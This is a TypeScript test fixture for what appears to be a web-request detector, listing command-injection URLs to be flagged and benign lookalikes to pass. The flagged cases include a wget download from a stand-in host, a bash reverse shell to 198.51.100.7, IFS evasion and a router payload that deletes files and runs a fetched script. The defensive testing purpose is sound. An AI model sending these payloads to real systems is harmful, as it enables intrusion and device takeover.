import type { AttackCases } from '../../types.ts';

export const cases: AttackCases = {
  marks: [
    {
      name: 'a download',
      requests: [
        {
          url: '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://198.51.100.7/x.sh)',
        },
      ],
    },
    { name: 'after a semicolon', requests: [{ url: '/ping?host=127.0.0.1;cat%20/etc/hostname' }] },
    { name: 'a pipe', requests: [{ url: '/ping?host=127.0.0.1|id' }] },
    {
      name: 'a shell that calls back',
      requests: [{ url: '/x?c=bash+-i+>%26+/dev/tcp/198.51.100.7/4444+0>%261' }],
    },
    { name: 'without blanks', requests: [{ url: '/ping?host=;cat\x24{IFS}/etc/hostname' }] },
    {
      name: 'a router of somebody else',
      requests: [{ url: '/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws' }],
    },
  ],
  silent: [
    { name: 'two parameters', requests: [{ url: '/a?x=1&id=2&ls=3&cat=books' }] },
    { name: 'a manual', requests: [{ url: '/docs/curl-and-wget' }] },
    { name: 'a search', requests: [{ url: '/search?q=curl+hair+and+cat+food' }] },
    { name: 'a matrix parameter', requests: [{ url: '/cars;color=red;id=7' }] },
    { name: 'money', requests: [{ url: '/price?amount=$(100)' }] },
  ],
};
